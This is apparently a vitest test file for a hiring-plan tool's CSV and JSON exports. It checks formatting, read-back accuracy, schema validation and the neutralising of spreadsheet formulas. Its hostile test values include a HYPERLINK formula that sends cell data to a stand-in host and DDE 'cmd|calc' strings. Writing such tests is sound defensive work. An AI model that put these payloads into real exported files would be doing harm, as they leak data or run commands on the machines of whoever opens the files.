/**
 * The plan's exports (src/plan/export-csv.ts, export-json.ts): the CSV read back with a real
 * parser (csv-parse) and compared with the result document for 1,000 seeded answer sets;
 * formula cells neutralised, checked by LibreOffice itself when it is installed; the JSON
 * validated against public/hiring-plan.schema.json with ajv, and the schema against JSON
 * Schema 2020-12's meta-schema.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { afterAll, describe, expect, it } from 'vitest';
import { OPTIONS, type CompleteAnswers } from '../../src/engine/answers.ts';
import { APPROACHES, ROLE_IDS, SOURCE_IDS, type RoleId, type SourceId } from '../../src/engine/ids.ts';
import { recommend } from '../../src/engine/recommend.ts';
import { resultDocument, type ResultDocument } from '../../src/result/document.ts';
import type { ResultLabels } from '../../src/content/labels.ts';
import { CSV_COLUMNS, csvCell, planCsv } from '../../src/plan/export-csv.ts';
import { PLAN_SCHEMA_VERSION, planExport } from '../../src/plan/export-json.ts';
import type { Rates } from '../../src/plan/rates.ts';
import { timelineOf } from '../../src/plan/timeline.ts';
import { PLAN_WORDING, fill } from '../../src/plan/wording.ts';
import { ownRates, planLabels } from '../helpers/plan.ts';
import { PERSONAS } from '../helpers/personas.ts';
import { sampleAnswerSets } from '../helpers/sample.ts';
import schema from '../../public/hiring-plan.schema.json' with { type: 'json' };

const labels = planLabels();
const SOURCE_NAMES = Object.fromEntries(SOURCE_IDS.map((id) => [id, `Source ${id}`])) as Record<SourceId, string>;
const SAMPLE = [...PERSONAS.map((p) => p.answers), ...sampleAnswerSets(1000, 2016)];
const docOf = (answers: CompleteAnswers, withLabels: ResultLabels = labels): ResultDocument => resultDocument(recommend(answers), withLabels);

/** Rows of a CSV text as a real parser reads them (byte-order mark dropped, CRLF records, strict quotes). */
const readCsv = (text: string): string[][] => parse(text, { bom: true, record_delimiter: '\r\n', relax_column_count: false });

const OWN_RATES = ownRates();

describe('the CSV', () => {
  it('is RFC 4180 with a UTF-8 byte-order mark: CRLF after every record, every field quoted', () => {
    const text = planCsv(docOf(PERSONAS[1]!.answers), OWN_RATES, SOURCE_NAMES);
    expect(text.startsWith('\uFEFF"role","role_name",')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const records = text.slice(1).split('\r\n').slice(0, -1);
    for (const record of records) expect(record).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/);
    expect(Buffer.from(text, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it(`reads back as the result document, seat for seat, for ${SAMPLE.length} answer sets`, () => {
    const month = (n: number | null) => (n === null ? '' : `M${n}`);
    const range = (r: { from: number; to: number }) => (r.from === r.to ? `M${r.from}` : `M${r.from}-M${r.to}`);
    SAMPLE.forEach((answers, index) => {
      const doc = docOf(answers);
      const rates = index % 2 === 0 ? OWN_RATES : null;
      const [header, ...rows] = readCsv(planCsv(doc, rates, SOURCE_NAMES));
      expect(header).toEqual([...CSV_COLUMNS]);
      expect(rows).toHaveLength(doc.items.length);
      const timeline = timelineOf(doc).rows;
      rows.forEach((cells, i) => {
        const row = Object.fromEntries(CSV_COLUMNS.map((column, c) => [column, cells[c]]));
        const item = doc.items[i]!;
        const timing = timeline[i]!;
        const own = rates?.roles[item.role];
        const working = timing.dating === 'next-phase' ? PLAN_WORDING.timeline.nextPhase
          : timing.dating === 'team-grows' ? PLAN_WORDING.timeline.teamGrows
          : timing.dating === 'at-scale' ? PLAN_WORDING.timeline.atScale
          : timing.workingBy ? range(timing.workingBy) : PLAN_WORDING.timeline.noFigure;
        expect(row, JSON.stringify(answers)).toMatchObject({
          role: item.role,
          role_name: item.name,
          lane: item.group,
          count_min: String(item.count?.min ?? 1),
          count_max: String(item.count?.max ?? 1),
          commitment: item.commitment,
          approach: item.then ? `${item.approach} then ${item.then}` : item.approach,
          search_starts: month(timing.searchStarts),
          need_by: month(timing.needBy),
          start_now: timing.startNow ? 'yes' : 'no',
          pay_band_source: item.role === 'ai-engineer' || item.role === 'ml-engineer' ? 'Source talent' : '',
          currency: rates ? 'USD' : '',
          your_monthly_rate: own?.monthly === undefined ? '' : String(own.monthly),
          your_part_time_share: own?.share === undefined ? '' : String(own.share),
        });
        expect(row.working_by!.startsWith(working)).toBe(true);
        if (row.pay_band) expect(row.pay_band).toMatch(/^Senior engineers, US and EU: USD 120000-250000\+ a year; Senior engineers, offshore .*: USD 40000-90000 a year\. .*senior/);
      });
    });
  });

  it('names both routes of a seat augmented first', () => {
    const [, ...rows] = readCsv(planCsv(docOf(PERSONAS[1]!.answers), null, SOURCE_NAMES));
    const ai = rows.find((cells) => cells[0] === 'ai-engineer')!;
    expect(ai[CSV_COLUMNS.indexOf('working_by')]).toBe(fill(PLAN_WORDING.timeline.augmentedThen, { first: 'M1', then: fill(PLAN_WORDING.timeline.hired, { when: 'M4-M7' }) }));
    expect(ai[CSV_COLUMNS.indexOf('your_salary')]).toBe('');
  });
});

describe('formula neutralisation', () => {
  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\'/c calc\'!A1', '\t=1+1', '\r=1+1', ' =1+1', '\u0000=1'];
  const HARMLESS = ['Plain, with a comma', 'A "quoted" name', 'Two\nlines', 'Ünïcödé 名前', "'already quoted"];

  it.each(HOSTILE)('prefixes %j with an apostrophe, so it reads back as text', (value) => {
    expect(readCsv(`${csvCell(value)}\r\n`)).toEqual([[`'${value}`]]);
  });

  it.each(HARMLESS)('leaves %j as it is', (value) => {
    expect(readCsv(`${csvCell(value)}\r\n`)).toEqual([[value]]);
  });

  /** Labels whose role names are hostile, one per role. */
  const hostileLabels = (): ResultLabels => {
    const roles = Object.fromEntries(ROLE_IDS.map((id, i) => [id, { name: HOSTILE[i % HOSTILE.length]!, summary: '' }])) as ResultLabels['roles'];
    return { ...labels, roles };
  };

  it('neutralises hostile role names and currencies in a whole plan, and no cell read back starts a formula', () => {
    const hostileRates: Rates = { ...OWN_RATES, currency: '=1+1' };
    for (const answers of SAMPLE.slice(0, 200)) {
      const doc = docOf(answers, hostileLabels());
      const rows = readCsv(planCsv(doc, hostileRates, { ...SOURCE_NAMES, talent: '@talent' }));
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^(?:[=+\-@\t\r\0]|\s*[=+\-@])/);
      rows.slice(1).forEach((cells, i) => expect(cells[1]).toBe(`'${doc.items[i]!.name}`));
    }
  });

  /** LibreOffice's own reading of a CSV file: each cell's type, text and formula, from a flat ODS. */
  const soffice = (() => {
    try {
      execFileSync('soffice', ['--version'], { stdio: 'ignore' });
      return true;
    } catch {
      return false;
    }
  })();
  const dir = mkdtempSync(join(tmpdir(), 'plan-csv-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it.skipIf(!soffice)('keeps hostile cells as text when LibreOffice opens the file, where a raw formula would run', () => {
    const doc = docOf(PERSONAS[1]!.answers, hostileLabels());
    writeFileSync(join(dir, 'plan.csv'), planCsv(doc, OWN_RATES, SOURCE_NAMES), 'utf8');
    // The control: the same hostile text written without neutralisation does run as a formula.
    writeFileSync(join(dir, 'raw.csv'), `\uFEFF"role"\r\n"=1+1"\r\n`, 'utf8');
    execFileSync('soffice', [
      `-env:UserInstallation=file://${join(dir, 'profile')}`, '--headless', '--norestore', '--nolockcheck',
      '--infilter=CSV:44,34,76,1', '--convert-to', 'fods', '--outdir', dir, join(dir, 'plan.csv'), join(dir, 'raw.csv'),
    ], { stdio: 'ignore', timeout: 120_000 });
    const cells = (file: string) => [...readFileSync(join(dir, file), 'utf8').matchAll(/<table:table-cell ([^>]*)>\s*<text:p>([^<]*)<\/text:p>/g)]
      .map((match) => ({ attributes: match[1]!, text: match[2]!.replace(/&apos;/g, "'").replace(/&quot;/g, '"').replace(/&amp;/g, '&') }));
    expect(cells('raw.fods').some((cell) => cell.attributes.includes('table:formula'))).toBe(true);
    const plan = cells('plan.fods');
    expect(readFileSync(join(dir, 'plan.fods'), 'utf8').match(/<table:table-row /g)?.length).toBe(doc.items.length + 1);
    expect(plan.filter((cell) => cell.attributes.includes('table:formula'))).toEqual([]);
    const named = plan.filter((cell) => cell.text.startsWith("'=HYPERLINK"));
    expect(named.length).toBeGreaterThan(0);
    for (const cell of named) expect(cell.attributes).toContain('office:value-type="string"');
  });
  if (!soffice) it.skip('LibreOffice check skipped: `soffice` is not installed (apt-get install -y --no-install-recommends libreoffice-calc)', () => {});
});

describe('the JSON export and its schema', () => {
  const ajv = new Ajv2020({ strict: true, allErrors: true, allowUnionTypes: true });
  addFormats(ajv);

  it('is a valid JSON Schema 2020-12 document with an $id and a schemaVersion of its own', () => {
    expect(ajv.validateSchema(schema), JSON.stringify(ajv.errors)).toBe(true);
    expect(schema.$schema).toBe('https://json-schema.org/draft/2020-12/schema');
    expect(schema.$id).toMatch(/^[a-z][a-z0-9+.-]*:/);
    expect(schema.properties.schemaVersion.const).toBe(PLAN_SCHEMA_VERSION);
  });

  it('gives every field a title and a description', () => {
    const untitled: string[] = [];
    const visit = (node: unknown, path: string) => {
      if (!node || typeof node !== 'object') return;
      const n = node as Record<string, unknown>;
      if (!n.title || !n.description) untitled.push(path);
      for (const key of ['properties', '$defs'] as const) {
        for (const [name, child] of Object.entries((n[key] as Record<string, unknown> | undefined) ?? {})) visit(child, `${path}/${key}/${name}`);
      }
      if (n.items) visit(n.items, `${path}/items`);
    };
    visit(schema, '#');
    expect(untitled).toEqual([]);
  });

  it("lists exactly the engine's ids: questions' options, roles, approaches, sources", () => {
    const answers = schema.$defs.answers.properties;
    for (const [question, options] of Object.entries(OPTIONS)) {
      const property = answers[question as keyof typeof answers] as { enum?: string[]; items?: { enum: string[] } };
      expect(property.enum ?? property.items?.enum, question).toEqual([...options]);
    }
    expect(schema.$defs.role.enum).toEqual([...ROLE_IDS]);
    expect(schema.$defs.approach.enum).toEqual([...APPROACHES]);
    expect(schema.$defs.source.enum).toEqual([...SOURCE_IDS]);
  });

  it(`validates ${SAMPLE.length} seeded exports, with and without rates, that say what the document says`, () => {
    const validate = ajv.compile(schema);
    SAMPLE.forEach((answers, index) => {
      const doc = docOf(answers);
      const rates = index % 2 === 0 ? OWN_RATES : null;
      const exported = JSON.parse(JSON.stringify(planExport(doc, rates, 'https://example.com/hiring-plan.schema.json')));
      expect(validate(exported), JSON.stringify(validate.errors)).toBe(true);
      expect(exported.answers).toEqual(answers);
      expect(exported.modelVersion).toBe(doc.modelVersion);
      expect(exported.items.map((item: { role: RoleId; lane: string }) => [item.role, item.lane])).toEqual(doc.items.map((item) => [item.role, item.group]));
      expect('rates' in exported).toBe(rates !== null);
      expect(exported.items.some((item: object) => 'rate' in item)).toBe(rates !== null);
      for (const item of exported.items) expect('payBand' in item).toBe(item.role === 'ai-engineer' || item.role === 'ml-engineer');
    });
  });

  it('is refused by the schema when it drifts: an unknown field, a month past M12, an invented rate', () => {
    const validate = ajv.compile(schema);
    const good = planExport(docOf(PERSONAS[1]!.answers), OWN_RATES);
    const broken = [
      { ...good, extra: true },
      { ...good, items: [{ ...good.items[0]!, timeline: { ...good.items[0]!.timeline, needBy: 13 } }] },
      { ...good, items: [{ ...good.items[0]!, rate: { monthly: 1e308 } }] },
      { ...good, schemaVersion: 1 },
    ];
    for (const value of broken) expect(validate(JSON.parse(JSON.stringify(value)))).toBe(false);
  });
});
